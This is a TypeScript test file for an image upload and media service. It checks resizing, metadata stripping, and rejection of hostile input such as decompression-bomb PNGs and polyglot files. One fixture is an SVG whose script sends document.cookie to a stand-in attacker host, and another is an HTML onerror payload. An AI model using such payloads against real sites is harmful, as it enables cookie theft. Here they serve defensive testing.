// The image pipeline against hostile and ordinary input, and the media service over both
// storage back ends. Test images are made here with sharp itself or crafted byte by byte.
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp, { type Sharp } from 'sharp';
import { thumbHashToRGBA } from 'thumbhash';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
	IMAGE_LIMITS,
	ImageRejectedError,
	inspectImage,
	makeRenditions,
	type RejectionReason,
	type Renditions
} from '../../src/lib/server/media/image.ts';
import { MEDIA_PREFIX, processUpload } from '../../src/lib/server/media/media.service.ts';
import { createLocalStore } from '../../src/lib/server/storage/local-store.ts';
import type { ObjectStore } from '../../src/lib/server/storage/object-store.ts';
import { createS3Store } from '../../src/lib/server/storage/s3-store.ts';
import { chunk, hugeBlackPng, ihdr, phoneJpegWithGps, PNG_SIGNATURE } from './helpers/images.ts';
import { startS3Server, type S3TestServer } from './helpers/s3.ts';

/** Paper-coloured board with a green disc: large flat areas, like a child's drawing. */
function drawingPng(width: number, height: number): Promise<Buffer> {
	return sharp({ create: { width, height, channels: 4, background: '#fdfcf5' } })
		.composite([{ input: circle(width, height), raw: { width, height, channels: 4 } }])
		.png()
		.toBuffer();
}

function circle(width: number, height: number): Buffer {
	const data = Buffer.alloc(width * height * 4);
	const r = height / 3;
	for (let y = 0; y < height; y++) {
		for (let x = 0; x < width; x++) {
			if ((x - width / 2) ** 2 + (y - height / 2) ** 2 < r * r) {
				const i = (y * width + x) * 4;
				data[i] = 0x2e;
				data[i + 1] = 0x7d;
				data[i + 2] = 0x32;
				data[i + 3] = 255;
			}
		}
	}
	return data;
}

function rawImage(width: number, height: number): Sharp {
	return sharp(circle(width, height), { raw: { width, height, channels: 4 } });
}

function photoJpeg(width: number, height: number): Promise<Buffer> {
	return sharp({
		create: {
			width,
			height,
			channels: 3,
			background: '#808080',
			noise: { type: 'gaussian', mean: 120, sigma: 30 }
		}
	})
		.jpeg({ quality: 85 })
		.toBuffer();
}

async function rejection(bytes: Buffer): Promise<RejectionReason | 'accepted'> {
	const info = await inspectImage(bytes);
	return info.ok ? 'accepted' : info.reason;
}

async function renditionError(bytes: Buffer): Promise<RejectionReason> {
	try {
		await makeRenditions(bytes);
	} catch (err) {
		if (err instanceof ImageRejectedError) return err.reason;
		throw err;
	}
	throw new Error('expected makeRenditions to refuse the input');
}

function allRenditions(r: Renditions) {
	return [r.thumbWebp, r.displayWebp, r.displayJpeg, r.original];
}

describe('image inspection and renditions', () => {
	it('accepts PNG, JPEG, WebP and AVIF by their decoded format, whatever their name', async () => {
		const base = rawImage(640, 480);
		expect(await inspectImage(await base.clone().png().toBuffer())).toMatchObject({
			ok: true,
			format: 'png',
			width: 640,
			height: 480,
			hasAlpha: true
		});
		expect(await inspectImage(await base.clone().jpeg().toBuffer())).toMatchObject({
			ok: true,
			format: 'jpeg'
		});
		expect(await inspectImage(await base.clone().webp().toBuffer())).toMatchObject({
			ok: true,
			format: 'webp'
		});
		expect(await inspectImage(await base.clone().avif({ effort: 0 }).toBuffer())).toMatchObject({
			ok: true,
			format: 'avif'
		});
	});

	it('makes every rendition at the right size from a drawing, keeping the original lossless', async () => {
		const png = await drawingPng(2000, 1500);
		const r = await makeRenditions(png);
		expect([r.thumbWebp.width, r.thumbWebp.height]).toEqual([400, 300]);
		expect([r.displayWebp.width, r.displayWebp.height]).toEqual([1600, 1200]);
		expect([r.displayJpeg.width, r.displayJpeg.height]).toEqual([1600, 1200]);
		expect([r.original.width, r.original.height, r.original.format]).toEqual([2000, 1500, 'png']);
		for (const rendition of allRenditions(r)) {
			const meta = await sharp(rendition.data).metadata();
			expect(meta.format).toBe(rendition.format);
			expect([meta.width, meta.height]).toEqual([rendition.width, rendition.height]);
		}
		const displayJpeg = await sharp(r.displayJpeg.data).metadata();
		expect(displayJpeg.isProgressive).toBe(true);
		// The lossless original holds exactly the source pixels.
		const [a, b] = await Promise.all([
			sharp(png).raw().toBuffer(),
			sharp(r.original.data).ensureAlpha().raw().toBuffer()
		]);
		expect(a.equals(b)).toBe(true);

		const placeholder = thumbHashToRGBA(Buffer.from(r.thumbhash, 'base64'));
		expect(placeholder.w / placeholder.h).toBeCloseTo(4 / 3, 0);
		expect(r.dominantColor).toMatch(/^#[0-9a-f]{6}$/);
	});

	it('re-encodes a photo as JPEG and never enlarges a small one', async () => {
		const r = await makeRenditions(await photoJpeg(900, 600));
		expect(r.original.format).toBe('jpeg');
		expect([r.displayWebp.width, r.displayWebp.height]).toEqual([900, 600]);
		expect([r.thumbWebp.width, r.thumbWebp.height]).toEqual([400, 267]);
	});

	it('finds the dominant colour of a flat image', async () => {
		const flat = await sharp({
			create: { width: 300, height: 300, channels: 3, background: '#2e7d32' }
		})
			.png()
			.toBuffer();
		const r = await makeRenditions(flat);
		const [red, green, blue] = [1, 3, 5].map((i) => parseInt(r.dominantColor.slice(i, i + 2), 16));
		// The stats histogram has 16 levels per channel: near, not exact.
		expect(Math.abs(red! - 0x2e)).toBeLessThanOrEqual(16);
		expect(Math.abs(green! - 0x7d)).toBeLessThanOrEqual(16);
		expect(Math.abs(blue! - 0x32)).toBeLessThanOrEqual(16);
	});

	it('strips EXIF (with GPS), XMP and ICC and auto-orients a phone photo', async () => {
		// Orientation 6 means "rotate 90° clockwise to view", so the upright picture has red on top.
		const photo = await phoneJpegWithGps(800, 600)
			.withXmp(
				'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
					'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Lin Xiao"/>' +
					'</rdf:RDF></x:xmpmeta>'
			)
			.withIccProfile('p3')
			.toBuffer();
		// The fixture really carries what must be stripped (GPS IFD pointer tag 0x8825).
		const source = await sharp(photo).metadata();
		expect(source.orientation).toBe(6);
		expect(source.exif?.includes(Buffer.from([0x25, 0x88]))).toBe(true);
		expect(source.xmpAsString).toContain('Lin Xiao');
		expect(source.hasProfile).toBe(true);

		expect(await inspectImage(photo)).toMatchObject({ ok: true, width: 600, height: 800 });
		const r = await makeRenditions(photo);
		expect([r.displayWebp.width, r.displayWebp.height]).toEqual([600, 800]);
		expect([r.displayJpeg.width, r.displayJpeg.height]).toEqual([600, 800]);
		expect([r.original.width, r.original.height]).toEqual([600, 800]);
		for (const rendition of allRenditions(r)) {
			const meta = await sharp(rendition.data).metadata();
			expect(meta.exif).toBeUndefined();
			expect(meta.xmp).toBeUndefined();
			expect(meta.icc).toBeUndefined();
			expect(meta.iptc).toBeUndefined();
			expect(meta.orientation).toBeUndefined();
			expect(meta.comments ?? []).toEqual([]);
			expect(rendition.data.includes(Buffer.from('KidCam'))).toBe(false);
			expect(rendition.data.includes(Buffer.from('Lin Xiao'))).toBe(false);
			const { data, info } = await sharp(rendition.data)
				.raw()
				.toBuffer({ resolveWithObject: true });
			const top = (Math.floor(info.width / 2) + 5 * info.width) * info.channels;
			const bottom = (Math.floor(info.width / 2) + (info.height - 5) * info.width) * info.channels;
			expect(data[top]).toBeGreaterThan(150);
			expect(data[bottom + 2]).toBeGreaterThan(150);
		}
	});
});

describe('bad input', () => {
	it('refuses an empty buffer as corrupt', async () => {
		expect(await rejection(Buffer.alloc(0))).toBe('corrupt');
		expect(await renditionError(Buffer.alloc(0))).toBe('corrupt');
	});

	it('refuses truncated PNG and JPEG files as corrupt', async () => {
		const png = await sharp({
			create: {
				width: 800,
				height: 600,
				channels: 3,
				background: '#808080',
				noise: { type: 'gaussian', mean: 128, sigma: 40 }
			}
		})
			.png()
			.toBuffer();
		const jpeg = await photoJpeg(1200, 900);
		for (const whole of [png, jpeg]) {
			const truncated = whole.subarray(0, Math.floor(whole.length / 2));
			expect(await rejection(truncated)).toBe('corrupt');
			expect(await renditionError(truncated)).toBe('corrupt');
		}
	});

	it('refuses a PNG header declaring 60000×60000 before decoding anything', async () => {
		const bomb = Buffer.concat([
			PNG_SIGNATURE,
			ihdr(60000, 60000, 2),
			chunk('IDAT', Buffer.alloc(64)),
			chunk('IEND', Buffer.alloc(0))
		]);
		const started = performance.now();
		expect(await rejection(bomb)).toBe('tooManyPixels');
		expect(await renditionError(bomb)).toBe('tooManyPixels');
		// Only the header is read: decoding 3.6 gigapixels would take minutes or run out of
		// memory, so even a very busy machine stays far below this bound.
		expect(performance.now() - started).toBeLessThan(5000);
	});

	it('refuses a 16000×16000 PNG of about 1 MB fast, as too many pixels', async () => {
		const bomb = await hugeBlackPng(16000, 16000);
		expect(bomb.length).toBeLessThan(1.5 * 1024 * 1024);
		expect(await rejection(bomb)).toBe('tooManyPixels');
		expect(await renditionError(bomb)).toBe('tooManyPixels');
	});

	it('refuses SVG (with a script, named .png), HTML, ZIP, GIF and TIFF as the wrong format', async () => {
		const svg = Buffer.from(
			'<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">' +
				'<script>fetch("https://evil.example/" + document.cookie)</script>' +
				'<rect width="800" height="600" fill="green"/></svg>'
		);
		const html = Buffer.from(
			'<!doctype html><html><body><img src=x onerror=alert(1)></body></html>'
		);
		// An empty archive (end of central directory only) and a local file header.
		const emptyZip = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
		const zipEntry = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(200, 1)]);
		const base = rawImage(400, 300);
		const gif = await base.clone().gif().toBuffer();
		const tiff = await base.clone().tiff().toBuffer();
		for (const bytes of [svg, html, emptyZip, zipEntry, gif, tiff]) {
			expect(await rejection(bytes)).toBe('format');
			expect(await renditionError(bytes)).toBe('format');
		}
	});

	it('refuses a file over the byte limit without parsing it', async () => {
		const big = Buffer.alloc(IMAGE_LIMITS.maxBytes + 1);
		PNG_SIGNATURE.copy(big);
		expect(await rejection(big)).toBe('tooBig');
	});

	it('refuses a 64×100000 strip and an over-long banner', async () => {
		const strip = await sharp({
			create: { width: 64, height: 100000, channels: 3, background: '#2e7d32' }
		})
			.png()
			.toBuffer();
		expect(await rejection(strip)).toBe('tooSmall');
		expect(await renditionError(strip)).toBe('tooSmall');
		const banner = await sharp({
			create: { width: 1300, height: 200, channels: 3, background: '#fff' }
		})
			.png()
			.toBuffer();
		expect(await rejection(banner)).toBe('aspect');
		const tiny = await sharp({
			create: { width: 150, height: 150, channels: 3, background: '#fff' }
		})
			.png()
			.toBuffer();
		expect(await rejection(tiny)).toBe('tooSmall');
	});

	it('accepts a PNG with HTML appended and drops the trailing bytes from every rendition', async () => {
		const marker = '<html><script>alert("sprout")</script></html>';
		const polyglot = Buffer.concat([await drawingPng(800, 600), Buffer.from(marker)]);
		expect(await rejection(polyglot)).toBe('accepted');
		const r = await makeRenditions(polyglot);
		for (const rendition of allRenditions(r)) {
			expect(rendition.data.includes(Buffer.from('<script'))).toBe(false);
			expect(rendition.data.includes(Buffer.from('sprout'))).toBe(false);
		}
	});
});

interface StoreFixture {
	name: 'local' | 's3';
	open(): Promise<{ store: ObjectStore; close(): Promise<void> }>;
}

const stores: StoreFixture[] = [
	{
		name: 'local',
		async open() {
			const dir = await mkdtemp(path.join(tmpdir(), 'sprout-media-'));
			return {
				store: createLocalStore(dir),
				close: () => rm(dir, { recursive: true, force: true })
			};
		}
	},
	{
		name: 's3',
		async open() {
			const server: S3TestServer = await startS3Server();
			const store = createS3Store({
				kind: 's3',
				endpoint: server.endpoint,
				bucket: server.bucket,
				region: 'us-east-1',
				accessKeyId: server.accessKeyId,
				secretAccessKey: server.secretAccessKey,
				forcePathStyle: true
			});
			return { store, close: () => server.stop() };
		}
	}
];

async function keysUnder(store: ObjectStore, prefix: string): Promise<string[]> {
	const keys: string[] = [];
	for await (const o of store.list(prefix)) keys.push(o.key);
	return keys.sort();
}

describe.each(stores)('media service on $name storage', ({ open }) => {
	let store: ObjectStore;
	let close: () => Promise<void>;

	beforeAll(async () => {
		({ store, close } = await open());
	});
	afterAll(() => close());

	it('writes the full set under content-addressed keys, once per artwork', async () => {
		const png = await drawingPng(1800, 1200);
		await store.put('uploads/one.png', png, { contentType: 'image/png' });
		await store.put('uploads/same-again.png', png, { contentType: 'image/png' });
		const first = await processUpload(store, 'uploads/one.png');
		expect(first.keyPrefix).toMatch(/^media\/[0-9a-f]{64}\/$/);
		expect(first).toMatchObject({ width: 1800, height: 1200 });
		expect(first.variants.map((v) => [v.name, v.width, v.height, v.contentType])).toEqual([
			['original', 1800, 1200, 'image/png'],
			['thumb', 400, 267, 'image/webp'],
			['display', 1600, 1067, 'image/webp'],
			['display-jpeg', 1600, 1067, 'image/jpeg']
		]);
		const keys = first.variants.map((v) => v.key).sort();
		expect(await keysUnder(store, first.keyPrefix)).toEqual(keys);
		for (const variant of first.variants) {
			expect((await store.head(variant.key))?.size).toBe(variant.bytes);
		}
		const second = await processUpload(store, 'uploads/same-again.png');
		expect(second).toEqual(first);
		expect(await keysUnder(store, MEDIA_PREFIX)).toEqual(keys);
	});

	it('writes nothing for a refused upload', async () => {
		await store.put('uploads/evil.png', Buffer.from('<svg><script>1</script></svg>'), {
			contentType: 'image/png'
		});
		const before = await keysUnder(store, MEDIA_PREFIX);
		await expect(processUpload(store, 'uploads/evil.png')).rejects.toMatchObject({
			reason: 'format'
		});
		expect(await keysUnder(store, MEDIA_PREFIX)).toEqual(before);
	});

	it('deletes what it wrote when a write fails half-way', async () => {
		await store.put('uploads/flaky.jpg', await photoJpeg(1000, 800), {
			contentType: 'image/jpeg'
		});
		const before = await keysUnder(store, MEDIA_PREFIX);
		let puts = 0;
		const flaky: ObjectStore = {
			kind: store.kind,
			put: (...args) => {
				if (++puts === 3) return Promise.reject(new Error('disk full'));
				return store.put(...args);
			},
			get: (key) => store.get(key),
			head: (key) => store.head(key),
			delete: (key) => store.delete(key),
			list: (prefix) => store.list(prefix),
			browserUrl: (key, expires) => store.browserUrl(key, expires),
			ping: () => store.ping()
		};
		await expect(processUpload(flaky, 'uploads/flaky.jpg')).rejects.toThrow('disk full');
		expect(puts).toBe(3);
		expect(await keysUnder(store, MEDIA_PREFIX)).toEqual(before);
	});
});
